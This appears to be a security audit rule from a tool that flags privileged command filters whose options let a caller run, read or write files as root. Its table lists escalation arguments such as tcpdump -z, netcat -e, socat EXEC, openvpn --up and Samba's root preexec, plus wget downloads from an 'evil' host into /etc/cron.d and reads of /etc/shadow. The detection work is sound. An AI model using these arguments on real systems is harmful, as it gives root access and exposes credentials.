"""A tool with an option that names a program to run.

Many tools run what an option or a configuration file of the caller names: ``tcpdump -z``, ``ssh -o
ProxyCommand``, ``curl -o`` for files, ``dnsmasq --dhcp-script``, ``haproxy -f``.

Instead: fix the options, and let the configuration file be one that the caller does not write.
"""

from collections.abc import Iterator
from typing import Final

from privmigrate.audit.evidence import Evidence
from privmigrate.audit.finding import Found, Level
from privmigrate.audit.power import Gain, Way, open_ways
from privmigrate.audit.runnable import Place
from privmigrate.examples import Clean, Finds

CODE: Final = "PM111"
LEVEL: Final = Level.HIGH

WAYS: Final = (
    Way("tcpdump", "-G 1 -w /tmp/c -z /tmp/x", Gain.RUN, "-z /tmp/x"),
    Way("ssh", "-o ProxyCommand=/tmp/x a", Gain.RUN, "-o ProxyCommand=/tmp/x"),
    Way("curl wget", "-o /etc/cron.d/x http://evil/x", Gain.WRITE, "-o /etc/cron.d/x"),
    Way("wget", "-O /etc/cron.d/x http://evil/x", Gain.WRITE, "-O /etc/cron.d/x"),
    Way("curl", "file:///etc/shadow", Gain.READ),
    Way("git", "-c alias.x=!/tmp/x x", Gain.RUN),
    Way("make", "-f /tmp/x", Gain.RUN),
    Way("less man", "/etc/shadow", Gain.READ),
    Way("dnsmasq", "--dhcp-script=/tmp/x", Gain.RUN),
    Way("dnsmasq", "--conf-file=/tmp/x", Gain.RUN),
    Way("haproxy keepalived", "-f /tmp/x", Gain.RUN),
    Way(
        "openvpn",
        "--dev null --script-security 2 --up /tmp/x",
        Gain.RUN,
        "--script-security --up /tmp/x",
    ),
    Way("conntrackd", "-C /tmp/x", Gain.WRITE),
    # smb.conf(5): root runs it whenever somebody connects
    Way("net", "conf setparm global 'root preexec' /tmp/x", Gain.RUN, place=Place.FIRST),
    Way("logrotate", "/tmp/x", Gain.RUN),
    Way("neutron-vpn-netns-wrapper", "--cmd=/tmp/x", Gain.RUN),
    Way("nmap", "--script /tmp/x", Gain.RUN),
    Way("socat", "- EXEC:/tmp/x", Gain.RUN, "EXEC:/tmp/x"),
    Way("nc ncat netcat", "-l 9 -e /tmp/x", Gain.RUN, "-e /tmp/x"),
    Way("nginx apache2 httpd", "-c /tmp/x", Gain.RUN),
    Way("radosgw-admin rbd ceph", "-c /tmp/x", Gain.WRITE),
    Way("pppd pptp", "call /tmp/x", Gain.RUN),
    Way("ansible ansible-playbook puppet chef-client", "/tmp/x", Gain.RUN),
    Way(
        "neutron-ns-metadata-proxy neutron-keepalived-state-change",
        "--log-file=/etc/cron.d/x",
        Gain.WRITE,
    ),
)

EXAMPLES: Final = (
    Finds(
        "any arguments",
        "[Filters]\nt: CommandFilter, tcpdump, root\n",
        "2:1",
        "t runs any program as root: tcpdump -G 1 -w /tmp/c -z /tmp/x",
    ),
    Finds(
        "variables in front",
        "[Filters]\nd: EnvFilter, env, root, NETWORK_ID=, dnsmasq\n",
        "2:1",
        "d runs any program as root: dnsmasq --dhcp-script=/tmp/x",
    ),
    Finds(
        "a parameter of Samba's",
        "[Filters]\nn: RegExpFilter, net, root, net, conf, setparm, .*, .*, .*\n",
        "2:1",
        "n runs any program as root: net conf setparm global 'root preexec' /tmp/x",
    ),
    Clean("a share taken back", "[Filters]\nn: RegExpFilter, net, root, net, conf, delshare, .*\n"),
    Clean(
        "its options are constants",
        "[Filters]\n"
        "t: RegExpFilter, tcpdump, root, tcpdump, -n, -i, [a-z0-9]+, -w, /var/lib/x/[^/]+\n",
    ),
)


def check(evidence: Evidence) -> Iterator[Found]:
    """Find the commands of callers into which one of the ways fits."""
    yield from open_ways(evidence, WAYS)
